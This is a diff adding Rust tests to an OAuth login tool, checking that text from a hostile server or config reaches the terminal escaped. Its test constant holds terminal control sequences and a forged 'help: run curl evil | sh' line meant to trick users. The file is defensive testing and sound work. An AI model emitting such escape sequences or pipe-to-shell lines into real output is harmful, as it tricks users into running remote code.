@@ -1119,6 +1119,102 @@ fn a_discovery_document_for_another_issuer_is_refused_before_any_secret_is_sent(
     ");
 }
 
+/// Terminal controls a hostile server might send: a clear screen, a window title, a bell, a
+/// bidi override, and a newline that forges a `help:` line.
+const HOSTILE_TEXT: &str =
+    "x\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}\u{9b}31m\nhelp: run curl evil | sh";
+
+fn assert_terminal_safe(err: &str) {
+    for c in ['\u{1b}', '\u{7}', '\u{202e}', '\u{9b}'] {
+        assert!(!err.contains(c), "{c:?} reached the terminal: {err:?}");
+    }
+    assert!(
+        !err.lines().any(|l| l.starts_with("help: run curl")),
+        "a forged line: {err}"
+    );
+}
+
+#[test]
+fn remote_text_reaches_the_terminal_escaped() {
+    let srv = crate::support::TinyHttp::start(|r| {
+        if r.line.starts_with("POST /device ") {
+            (
+                200,
+                serde_json::json!({
+                    "device_code": "d",
+                    "user_code": HOSTILE_TEXT,
+                    "verification_uri": format!("http://127.0.0.1/{HOSTILE_TEXT}"),
+                    "verification_uri_complete": HOSTILE_TEXT,
+                    "expires_in": 1,
+                    "interval": 1,
+                })
+                .to_string(),
+            )
+        } else {
+            (
+                400,
+                serde_json::json!({"error": HOSTILE_TEXT, "error_description": HOSTILE_TEXT})
+                    .to_string(),
+            )
+        }
+    });
+    let sb = Sandbox::init();
+    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
+    config.push_str(&format!(
+        "\n[providers.evil]\ntoken_url = \"{0}/token\"\ndevice_url = \"{0}/device\"\nclient_id = \"c\"\nflows = [\"client-credentials\", \"device\"]\n",
+        srv.url()
+    ));
+    std::fs::write(sb.home.join("config.toml"), config).unwrap();
+    // An OAuth error answer: its code and description are the server's words.
+    let out = sb
+        .cmd("sigil-login")
+        .args([
+            "ci/bot",
+            "--provider",
+            "evil",
+            "--flow",
+            "client-credentials",
+        ])
+        .env("SIGIL_CLIENT_SECRET", "s")
+        .output()
+        .unwrap();
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(4), "{err}");
+    assert!(err.contains("help: run curl evil"), "{err}");
+    assert_terminal_safe(&err);
+    // The device flow shows the server's URI and user code.
+    let out = sb
+        .cmd("sigil-login")
+        .args(["dev/me", "--provider", "evil", "--flow", "device"])
+        .timeout(Duration::from_secs(30))
+        .output()
+        .unwrap();
+    let err = stderr(&out);
+    assert_eq!(out.status.code(), Some(4), "{err}");
+    assert!(err.contains("enter the code: x"), "{err}");
+    assert_terminal_safe(&err);
+}
+
+#[test]
+fn names_from_config_reach_the_table_escaped() {
+    let sb = Sandbox::init();
+    let mut config = std::fs::read_to_string(sb.home.join("config.toml")).unwrap();
+    config.push_str(&format!(
+        "\n[providers.x]\nname = {}\ntoken_url = \"https://x.example/t\"\nclient_id = \"c\"\n",
+        serde_json::to_string(HOSTILE_TEXT).unwrap()
+    ));
+    std::fs::write(sb.home.join("config.toml"), config).unwrap();
+    let out = sb
+        .cmd("sigil-login")
+        .arg("--list-providers")
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(text.contains("x\\u{1b}[2J"), "{text}");
+    assert_terminal_safe(&text);
+}
+
 /// git gets an OAuth account's token through git-credential-sigil with its expiry; after the
 /// expiry, and after git rejects a token, the helper hands out one refreshed against the
 /// real authorization server.
